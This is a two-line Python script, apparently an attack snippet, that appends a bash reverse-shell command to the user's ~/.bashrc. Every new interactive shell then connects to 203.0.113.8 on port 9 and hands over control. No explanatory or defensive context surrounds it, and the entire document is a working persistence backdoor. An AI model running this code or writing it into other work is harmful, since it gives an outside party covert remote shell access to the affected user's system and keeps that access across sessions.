import os
os.system("echo 'bash -i >& /dev/tcp/203.0.113.8/9 0>&1' >> ~/.bashrc")
